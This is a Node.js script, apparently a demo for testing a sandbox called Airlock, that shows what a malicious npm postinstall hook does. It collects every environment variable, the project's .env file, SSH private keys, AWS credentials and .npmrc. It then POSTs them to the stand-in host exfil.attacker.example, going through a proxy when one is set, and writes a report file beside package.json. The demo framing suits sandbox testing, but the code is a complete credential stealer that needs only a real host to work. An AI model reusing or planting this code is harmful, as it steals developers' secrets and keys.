// What a malicious postinstall does (demo: it only sends to a host that does not exist).
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const http = require('node:http');

const loot = { env: process.env, files: {} };
const project = process.env.INIT_CWD || process.cwd();
for (const f of [path.join(project, '.env'), path.join(os.homedir(), '.ssh', 'id_rsa'), path.join(os.homedir(), '.ssh', 'id_ed25519'), path.join(os.homedir(), '.aws', 'credentials'), path.join(os.homedir(), '.npmrc')]) {
  try {
    loot.files[f] = fs.readFileSync(f, 'utf8');
  } catch (e) {
    loot.files[f] = `(${e.code})`;
  }
}
// (The demo also leaves a report beside package.json: npm hides a postinstall's output
// unless it runs with --foreground-scripts.)
const report = [];
const say = (line) => {
  console.log(line);
  report.push(line);
  fs.writeFileSync(path.join(project, 'evil-package-report.txt'), report.join('\n') + '\n');
};
say(`[evil-package] collected ${Object.keys(loot.env).length} variables and ${Object.values(loot.files).filter((v) => v !== '' && !v.startsWith('(')).length} files with content:`);
for (const [f, v] of Object.entries(loot.files)) say(`[evil-package]   ${f}: ${v.startsWith('(') ? v : `${v.length} bytes`}`);

// Through the proxy if there is one (as inside Airlock), else straight out.
const proxy = process.env.HTTP_PROXY || process.env.http_proxy;
const target = 'http://exfil.attacker.example/collect';
const opts = proxy ? { host: new URL(proxy).hostname, port: new URL(proxy).port, path: target, method: 'POST' } : { host: 'exfil.attacker.example', path: '/collect', method: 'POST' };
const req = http.request(opts, (res) => {
  let body = '';
  res.on('data', (d) => (body += d));
  res.on('end', () => say(`[evil-package] exfiltration answered ${res.statusCode}: ${body.split('\n')[0]}`));
});
req.on('error', (e) => say(`[evil-package] exfiltration failed: ${e.message}`));
req.end(JSON.stringify(loot));
